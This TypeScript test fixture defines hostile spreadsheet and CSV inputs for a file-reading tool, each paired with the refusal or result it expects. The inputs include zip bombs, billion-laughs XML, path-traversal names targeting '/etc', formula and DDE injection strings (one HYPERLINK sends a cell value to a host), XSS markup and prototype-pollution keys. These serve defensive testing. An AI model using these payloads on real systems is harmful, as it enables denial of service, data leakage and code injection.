import { randomFillSync } from 'node:crypto';
import { crc32 } from 'node:zlib';
import { CFB } from 'xlsx';
import type { Ending } from '../corpus/runCommandLine.ts';
import { odsOfTwoFormats, xlsOfUnknownRecord } from '../fixtures/oddWorkbooks.ts';
import { makeWorkbook } from '../fixtures/sheetXml.ts';
import { deflateBomb } from './bomb.ts';
import {
  archiveWithSheet,
  honestRows,
  odsRows,
  openDocument,
  shop,
  shopHeader,
  shopText,
  shopWith,
  shopXml,
} from './shop.ts';
import { textEntry, writeArchive } from './zipArchive.ts';

/** A file that somebody might send, and what has to become of it. */
export interface HostileFile {
  readonly title: string;
  readonly name: string;
  readonly make: () => Uint8Array | string | Promise<Uint8Array>;
  readonly ending: Ending;
  /** What the message, or the JSON document, has to match. */
  readonly says: RegExp;
  readonly args?: readonly string[];
}

const megabyte = 2 ** 20;
const sheetStart = '<worksheet><sheetData>';
const sheetEnd = '</sheetData></worksheet>';
const all = /"kept": 80,/;

const bomb = async (megabytes: number, size?: number) => {
  const end = shopXml() + sheetEnd;
  const spaces = ' '.repeat(Math.min(megabytes, 40) * megabyte);
  const data = await deflateBomb(sheetStart, megabytes, end);
  const honest = megabytes * megabyte + Buffer.byteLength(sheetStart + end);
  return archiveWithSheet({ data, size: size ?? honest, crc: crc32(end, crc32(spaces, crc32(sheetStart))) });
};

const archives: readonly HostileFile[] = [
  {
    title: 'a bomb of 2 GB in 2 MB',
    name: 'bomb.xlsx',
    make: () => bomb(2000),
    ending: 'refused',
    says: /its part “xl\/worksheets\/sheet1\.xml” grows 1,0\d\d times, to 2\.0 GB, and at most 100 times is allowed.*raise “ratio” in the setting segmentAi\.reading\.limits/,
  },
  {
    title: 'a bomb that claims to be small',
    name: 'liar.xlsx',
    make: () => bomb(2000, 100_000),
    ending: 'refused',
    says: /damaged/,
  },
  {
    title: 'a bomb that claims to be larger than it is',
    name: 'braggart.xlsx',
    make: () => bomb(1, 12 * megabyte),
    ending: 'refused',
    says: /damaged/,
  },
  {
    title: 'what the user trusts',
    name: 'trusted.xlsx',
    make: () => bomb(40),
    args: ['--set', 'reading.limits={"ratio":2000}'],
    ending: 'segmented',
    says: all,
  },
  {
    title: 'a part over a limit that the user set',
    name: 'part.xlsx',
    make: () => bomb(3),
    args: ['--set', 'reading.limits={"partMB":2}'],
    ending: 'refused',
    says: /sheet1\.xml” is 4 MB, and at most 2 MB is allowed.*“partMB”/,
  },
  {
    title: 'a whole over a limit that the user set',
    name: 'total.xlsx',
    make: () => bomb(3),
    args: ['--set', 'reading.limits={"totalMB":2}'],
    ending: 'refused',
    says: /it is 4 MB in all, and at most 2 MB is allowed.*“totalMB”/,
  },
  {
    title: 'texts over a limit that the user set',
    name: 'texts.xlsx',
    make: () => shopWith({ sharedStrings: `<si><t>${'a'.repeat(2 * megabyte)}</t></si>` }),
    args: ['--set', 'reading.limits={"memoryMB":1}'],
    ending: 'refused',
    says: /xl\/sharedStrings\.xml”.*held in memory, is 3 MB.*“memoryMB”/,
  },
  {
    title: 'an .ods bomb',
    name: 'bomb.ods',
    make: async () =>
      writeArchive([
        { name: 'content.xml', data: await deflateBomb('<a>', 2000, '</a>'), size: 2000 * megabyte + 7 },
      ]),
    ending: 'refused',
    says: /“content\.xml” grows .*“ratio”/,
  },
  {
    title: 'entries that lie over one another',
    name: 'overlap.xlsx',
    make: () => {
      const sheet = textEntry('', sheetStart + shopXml() + sheetEnd);
      const twins = [2, 3, 4].map((i) => ({ ...sheet, name: `xl/worksheets/sheet${i}.xml`, sharesWith: 2 }));
      return archiveWithSheet(sheet, twins);
    },
    ending: 'refused',
    says: /is corrupt/,
  },
  {
    title: 'an entry that reaches beyond the file',
    name: 'beyond.xlsx',
    make: () => archiveWithSheet({ ...textEntry('', sheetStart + sheetEnd), compressedSize: 1_000_000_000 }),
    ending: 'refused',
    says: /is incomplete/,
  },
  {
    title: 'names and targets that climb out of the archive',
    name: 'climb.xlsx',
    make: () =>
      shopWith({
        others: {
          '../../../../etc/cron.d/evil': 'x',
          '/etc/evil': 'x',
          'C:\\evil': 'x',
          'xl/_rels/workbook.xml.rels':
            '<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="../../../../../etc/passwd"/></Relationships>',
        },
      }),
    ending: 'refused',
    says: /lacks its part “etc\/passwd”/,
  },
  {
    title: 'a sheet that is elsewhere on the network',
    name: 'external.xlsx',
    make: () =>
      shopWith({
        others: {
          'xl/_rels/workbook.xml.rels':
            '<Relationships><Relationship Id="rId1" Type="x/worksheet" TargetMode="External" Target="http://localhost:9/sheet.xml"/></Relationships>',
        },
      }),
    ending: 'refused',
    says: /no sheets/,
  },
  {
    title: 'a part that is listed as ten thousand sheets',
    name: 'sheets.xlsx',
    make: () => {
      const sheets = Array.from({ length: 10_000 }, (_, i) => `<sheet name="S${i}" r:id="r1"/>`).join('');
      return shopWith({
        others: {
          'xl/workbook.xml': `<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>${sheets}</sheets></workbook>`,
          'xl/_rels/workbook.xml.rels':
            '<Relationships><Relationship Id="r1" Type="x/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        },
      });
    },
    ending: 'segmented',
    says: all,
  },
  {
    title: 'a workbook with a password',
    name: 'password.xlsx',
    make: () => {
      const file = CFB.utils.cfb_new();
      CFB.utils.cfb_add(file, '/EncryptionInfo', Buffer.from([4, 0, 4, 0, 0x40, 0, 0, 0]));
      CFB.utils.cfb_add(file, '/EncryptedPackage', randomFillSync(Buffer.alloc(5000)));
      return Buffer.from(CFB.write(file, { type: 'buffer' }) as Uint8Array);
    },
    ending: 'refused',
    says: /password; save it without one/,
  },
  {
    title: 'an archive with a password',
    name: 'zip-password.xlsx',
    make: () => archiveWithSheet({ ...textEntry('', 'x'), flags: 1 }),
    ending: 'refused',
    says: /encrypted; save it without a password/,
  },
  {
    title: 'an archive encrypted by AES',
    name: 'aes.xlsx',
    make: () => archiveWithSheet({ ...textEntry('', 'x'), method: 99 }),
    ending: 'refused',
    says: /encrypted; save it without a password/,
  },
  {
    title: 'an archive packed in an odd way',
    name: 'lzma.xlsx',
    make: () => archiveWithSheet({ ...textEntry('', 'x'), method: 14 }),
    ending: 'refused',
    says: /packed in a way .*method 14/,
  },
  {
    title: 'a truncated workbook',
    name: 'truncated.xlsx',
    make: () => shop().slice(0, 1500),
    ending: 'refused',
    says: /damaged or incomplete/,
  },
  {
    title: 'a sheet whose XML breaks off',
    name: 'broken-off.xlsx',
    make: () => archiveWithSheet(textEntry('', `${sheetStart}${shopXml()}<row><c r="A90"><v>1`)),
    ending: 'refused',
    says: /ends too early/,
  },
];

const xml: readonly HostileFile[] = [
  ...(
    [
      ['a sheet', 'xl/worksheets/sheet1.xml'],
      ['the workbook', 'xl/workbook.xml'],
      ['the styles', 'xl/styles.xml'],
      ['the texts', 'xl/sharedStrings.xml'],
    ] as const
  ).map(
    ([title, part]): HostileFile => ({
      title: `a billion laughs in ${title}`,
      name: 'laughs.xlsx',
      make: () => shopWith({ sharedStrings: '', styles: '', others: { [part]: `${laughs}<x>&l9;</x>` } }),
      ending: 'refused',
      says: /document type declaration/,
    }),
  ),
  {
    title: 'a billion laughs in an .ods',
    name: 'laughs.ods',
    make: () =>
      openDocument(
        '<table:table-row><table:table-cell><text:p>&l9;</text:p></table:table-cell></table:table-row>',
        laughs,
      ),
    ending: 'refused',
    says: /./,
  },
  {
    title: 'elements a million deep',
    name: 'deep.xlsx',
    make: () => shopWith({ others: { 'xl/workbook.xml': '<a>'.repeat(1_000_000) } }),
    ending: 'refused',
    says: /damaged/,
  },
  {
    title: 'a comment that never ends',
    name: 'comment.xlsx',
    make: () => archiveWithSheet(textEntry('', `${sheetStart}<!-- ${'x'.repeat(15 * megabyte)}`)),
    ending: 'refused',
    says: /ends too early/,
  },
  {
    title: 'a tag of 15 MB',
    name: 'tag.xlsx',
    make: () =>
      archiveWithSheet(
        textEntry('', `${sheetStart}<row ${'x="y" '.repeat(2_500_000)}/>${shopXml()}${sheetEnd}`),
      ),
    ending: 'segmented',
    says: all,
  },
];

const laughs = `<!DOCTYPE x [<!ENTITY l0 "ha">${Array.from(
  { length: 9 },
  (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`,
).join('')}]>`;

const cells = (columns: number) => Array.from({ length: columns }, (_, i) => `<c><v>${i}</v></c>`).join('');

const shapes: readonly HostileFile[] = [
  {
    title: 'a row of a million columns',
    name: 'million.xlsx',
    make: () => makeWorkbook({ sheets: { S: `${shopXml()}<row>${cells(1_000_000)}</row>` } }),
    ending: 'segmented',
    says: all,
  },
  {
    title: 'a thousand rows of 16,384 columns',
    name: 'wide.xlsx',
    make: () => {
      const row = `<row>${'<c><v>7</v></c>'.repeat(16_384)}</row>`;
      return archiveWithSheet(textEntry('', `${sheetStart}${shopXml()}${row.repeat(1000)}${sheetEnd}`));
    },
    args: ['--set', 'reading.limits={"ratio":2000}'],
    ending: 'asked',
    says: /1,000 of 1,080 rows would be left out/,
  },
  {
    title: 'a text file of a million columns',
    name: 'million.csv',
    make: () => `${shopText()}${'1,'.repeat(1_000_000)}\n`,
    ending: 'segmented',
    says: all,
  },
  {
    title: 'hundreds of columns of numbers without a header, any three of which might be a product',
    name: 'numbers.csv',
    make: () => {
      const line = (row: number) =>
        Array.from({ length: 400 }, (_, column) => 1 + ((row * (column + 3)) % 97)).join(',');
      return Array.from({ length: 400 }, (_, row) => `${line(row)}\n`).join('');
    },
    ending: 'asked',
    says: /No column is recognised as/,
  },
  {
    title: 'a cell in the last corner',
    name: 'corner.xlsx',
    make: () =>
      makeWorkbook({ sheets: { S: `${shopXml()}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>` } }),
    ending: 'segmented',
    says: all,
  },
  {
    title: 'a dimension that is not true',
    name: 'dimension.xlsx',
    make: () =>
      makeWorkbook({
        sheets: {
          S: `<worksheet><dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384"/></cols><sheetData>${shopXml()}</sheetData></worksheet>`,
        },
      }),
    ending: 'segmented',
    says: all,
  },
  {
    title: 'a cell of 10 million characters',
    name: 'long.xlsx',
    make: () => shop([['x'.repeat(10_000_000), 1, '2011-05-05 10:00', 1, '17000']]),
    ending: 'segmented',
    says: /"kept": 81,/,
  },
  {
    title: 'a customer of 9 million characters in a text file',
    name: 'long.csv',
    make: () => shopText([['1', 1, '2011-05-05 10:00', 1, 'x'.repeat(9_000_000)]]),
    ending: 'segmented',
    says: /"kept": 81,/,
  },
  {
    title: 'a field of 11 million characters',
    name: 'longer.csv',
    make: () => shopText([['1', 1, '2011-05-05 10:00', 1, 'x'.repeat(11_000_000)]]),
    ending: 'refused',
    says: /field of over 10 MB in row 2/,
  },
  {
    title: 'an honest .ods with the repeated empty rows that spreadsheet programs write',
    name: 'honest.ods',
    make: () =>
      openDocument(
        `${odsRows}<table:table-row table:number-rows-repeated="1048494"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>`,
      ),
    ending: 'segmented',
    says: all,
  },
  {
    title: 'an .ods that repeats rows a billion times',
    name: 'billion.ods',
    make: () =>
      openDocument(
        `${odsRows}<table:table-row table:number-rows-repeated="1000000000"><table:table-cell office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>`,
      ),
    ending: 'refused',
    // Whichever limit it meets first: a busy machine is slow to fill the memory.
    says: /^Stopped: (the run needs more than [\d.]+ GB of memory|the workbook could not be read within 60 seconds); save/,
  },
  {
    title: 'a table of a web page whose cells span a billion columns',
    name: 'span.xls',
    make: () =>
      `<table>${`<tr>${'<td colspan="1000000000" rowspan="1000000000">1</td>'.repeat(3)}</tr>`.repeat(3)}</table>`,
    ending: 'refused',
    says: /./,
  },
  {
    title: 'an XML spreadsheet of 2003 with a cell a billion rows and columns away',
    name: 'index.xls',
    make: () =>
      '<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="S"><Table><Row ss:Index="1000000000"><Cell ss:Index="1000000000" ss:MergeAcross="1000000000"><Data ss:Type="Number">1</Data></Cell></Row></Table></Worksheet></Workbook>',
    ending: 'refused',
    says: /./,
  },
  {
    title: 'an old workbook with a record that nobody knows',
    name: 'record.xls',
    make: () => xlsOfUnknownRecord([shopHeader, ...honestRows]),
    ending: 'segmented',
    says: all,
  },
  {
    title: 'an .ods with a number format that nobody knows',
    name: 'format.ods',
    make: () => odsOfTwoFormats([shopHeader, ...honestRows]),
    ending: 'segmented',
    says: all,
  },
  {
    title: 'an old workbook of noise',
    name: 'noise.xls',
    make: () => {
      const file = CFB.utils.cfb_new();
      CFB.utils.cfb_add(file, '/Workbook', randomFillSync(Buffer.alloc(100_000)));
      return Buffer.from(CFB.write(file, { type: 'buffer' }) as Uint8Array);
    },
    ending: 'refused',
    says: /./,
  },
];

const rowOf = (
  cells: Partial<Record<'invoice' | 'quantity' | 'date' | 'price' | 'customer', string | number>>,
) => [
  cells.invoice ?? '1',
  cells.quantity ?? 1,
  cells.date ?? '2011-05-05 10:00',
  cells.price ?? 1,
  cells.customer ?? '17000',
];

/** Rows of one odd value each, and how many of them are to be kept. */
const values = (
  title: string,
  name: string,
  rows: readonly ReturnType<typeof rowOf>[],
  kept: number,
): HostileFile[] =>
  [['xlsx', () => shop(rows)] as const, ['csv', () => shopText(rows)] as const].map(([type, make]) => ({
    title: `${title} (${type})`,
    name: `${name}.${type}`,
    make,
    ending: 'segmented',
    says: new RegExp(`"kept": ${80 + kept},`),
  }));

const contents: readonly HostileFile[] = [
  {
    title: 'a text that is not in the table of texts',
    name: 'index.xlsx',
    make: () => {
      const row = (index: string, order: number) =>
        `<row><c><v>${900 + order}</v></c><c><v>1</v></c><c t="inlineStr"><is><t>2011-05-05 10:00</t></is></c><c><v>1</v></c><c t="s"><v>${index}</v></c></row>`;
      const indices = ['0', '7', '-1', '99999999999', 'x', '1e3', '4294967296'].map(row).join('');
      return makeWorkbook({ sheets: { S: shopXml() + indices }, sharedStrings: '<si><t>17000</t></si>' });
    },
    ending: 'segmented',
    says: /"kept": 81,[\s\S]*"missingCustomer": 6,/,
  },
  {
    title: 'numbers that are none',
    name: 'nan.xlsx',
    make: () => {
      const row = (value: string) =>
        `<row><c><v>1</v></c><c><v>2</v></c><c t="inlineStr"><is><t>2011-05-05 10:00</t></is></c><c><v>${value}</v></c><c><v>17000</v></c></row>`;
      const prices = ['NaN', 'INF', '-INF', 'Infinity', '1e999', '1e308', '0x10', '--1', '1e-999']
        .map(row)
        .join('');
      return makeWorkbook({ sheets: { S: shopXml() + prices } });
    },
    ending: 'segmented',
    says: /"kept": 80,/,
  },
  {
    title: 'amounts whose sum is too large for a number',
    name: 'sum.xlsx',
    make: () =>
      shop([rowOf({ price: 1e308 }), rowOf({ price: 1e308 }), rowOf({ price: 9e307, customer: 'x' })]),
    ending: 'refused',
    says: /too large to compare; correct or remove/,
  },
  ...values(
    'numbers as text that are none',
    'nan',
    ['NaN', 'Infinity', '1e400'].map((price) => rowOf({ price })),
    0,
  ),
  ...values(
    'dates of the years 0 and 9999, and beyond',
    'years',
    ['0000-01-01', '9999-12-31', '10000-01-01', '2011-02-30', '275760-09-14'].map((date) => rowOf({ date })),
    0,
  ),
  {
    title: 'serial dates far out',
    name: 'serials.xlsx',
    make: () => {
      const row = (value: string) =>
        `<row><c><v>1</v></c><c><v>2</v></c><c s="1"><v>${value}</v></c><c><v>1</v></c><c><v>17000</v></c></row>`;
      const serials = ['-1', '1e10', '2958466', '1e308', 'NaN'].map(row).join('');
      return makeWorkbook({
        sheets: { S: shopXml() + serials },
        styles: '<cellXfs><xf numFmtId="0"/><xf numFmtId="22"/></cellXfs>',
      });
    },
    ending: 'segmented',
    says: /"kept": 80,/,
  },
  ...values(
    "customers named like the language's own properties",
    'proto',
    ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'].map((customer) =>
      rowOf({ customer, invoice: customer }),
    ),
    5,
  ),
  {
    title: "headers named like the language's own properties",
    name: 'proto-headers.xlsx',
    make: () =>
      makeWorkbook({
        sheets: Object.fromEntries([
          ['constructor', shopXml([], [...shopHeader, '__proto__', 'constructor', 'toString'])],
          ['toString', shopXml([], [...shopHeader, '__proto__'])],
        ]),
      }),
    ending: 'segmented',
    // Both sheets hold the same orders.
    says: /"kept": 80,/,
  },
  ...values(
    'formulas, markup and marks as customers',
    'marks',
    [
      '=HYPERLINK("http://localhost:9/?"&A1,"x")',
      "+cmd|'/c calc'!A0",
      '@SUM(1)',
      '<img src=x onerror=alert(1)>',
      '\u202e\u200f17000\u2066',
      '\u{1f600}',
      'a\tb',
    ].map((customer) => rowOf({ customer })),
    7,
  ),
  {
    title: 'lone surrogates, NUL and characters that XML forbids',
    name: 'surrogates.xlsx',
    make: () => {
      const texts = ['&#xD800;', '&#xDFFF;a', '&#0;', '&#x1F;', '&#x110000;', '_xD800_', '&unknown;'];
      const rows = texts.map(
        (text) =>
          `<row><c><v>1</v></c><c><v>1</v></c><c t="inlineStr"><is><t>2011-05-05 10:00</t></is></c><c><v>1</v></c><c t="inlineStr"><is><t>c${text}</t></is></c></row>`,
      );
      return makeWorkbook({ sheets: { S: shopXml() + rows.join('') } });
    },
    ending: 'segmented',
    says: /"kept": 87,/,
  },
  {
    title: 'lone surrogates in UTF-16',
    name: 'surrogates.csv',
    make: () =>
      Buffer.from(
        `\ufeff${shopText([rowOf({ customer: 'a\ud800' }), rowOf({ customer: '\udc00' })])}`,
        'utf16le',
      ),
    ending: 'segmented',
    says: /"kept": 82,/,
  },
  {
    title: 'NUL bytes in a text file',
    name: 'nul.csv',
    make: () => shopText([rowOf({ customer: 'a\0b' }), rowOf({ invoice: '\0' })]),
    ending: 'segmented',
    says: /"kept": 82,/,
  },
  {
    title: 'bytes that are no UTF-8',
    name: 'bytes.csv',
    make: () =>
      Buffer.concat([
        Buffer.from(shopText()),
        Buffer.from([0x31, 0x2c, 0xff, 0xc3, 0x28, 0xed, 0xa0, 0x80, 0x0a]),
      ]),
    ending: 'segmented',
    says: /"kept": 80,/,
  },
  {
    title: 'headers between right-to-left marks',
    name: 'marks-headers.csv',
    make: () =>
      shopText(
        [],
        shopHeader.map((title) => `\u200f${title}\u200e`),
      ),
    ending: 'segmented',
    says: all,
  },
  {
    title: 'a sheet and a file named like markup',
    name: '<img src=x onerror=alert(1)> \u202e.xlsx',
    make: () => makeWorkbook({ sheets: { '&lt;script>alert(1)&lt;/script>': shopXml() } }),
    ending: 'segmented',
    says: /<script>alert\(1\)/,
  },
];

const disguises: readonly HostileFile[] = [
  { title: 'an empty file', name: 'empty.xlsx', make: () => '', ending: 'refused', says: /is empty/ },
  { title: 'an empty text file', name: 'empty.csv', make: () => '\n\n\n', ending: 'refused', says: /./ },
  {
    title: 'a text as a workbook',
    name: 'text.xlsx',
    make: () => shopText(),
    ending: 'refused',
    says: /isn't a real Excel workbook/,
  },
  {
    title: 'a picture as a workbook',
    name: 'picture.xlsx',
    make: () =>
      Buffer.concat([
        Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
        randomFillSync(Buffer.alloc(5000)),
      ]),
    ending: 'refused',
    says: /isn't a real Excel workbook/,
  },
  {
    title: 'noise as a text file',
    name: 'noise.csv',
    make: () => randomFillSync(Buffer.alloc(300_000)),
    ending: 'refused',
    says: /./,
  },
  {
    title: 'an archive that holds no workbook',
    name: 'other.xlsx',
    make: () => writeArchive([textEntry('word/document.xml', '<x/>')]),
    ending: 'refused',
    says: /holds no workbook/,
  },
  {
    title: 'a header and no rows',
    name: 'header.csv',
    make: () => `${shopHeader.join(',')}\n`,
    ending: 'refused',
    says: /./,
  },
  {
    title: 'one customer, one row',
    name: 'one.csv',
    make: () => `${shopHeader.join(',')}\n${honestRows[0]!.join(',')}\n`,
    ending: 'segmented',
    says: /"customers": 1,/,
  },
];

export const hostileFiles: readonly HostileFile[] = [
  ...archives,
  ...xml,
  ...shapes,
  ...contents,
  ...disguises,
];
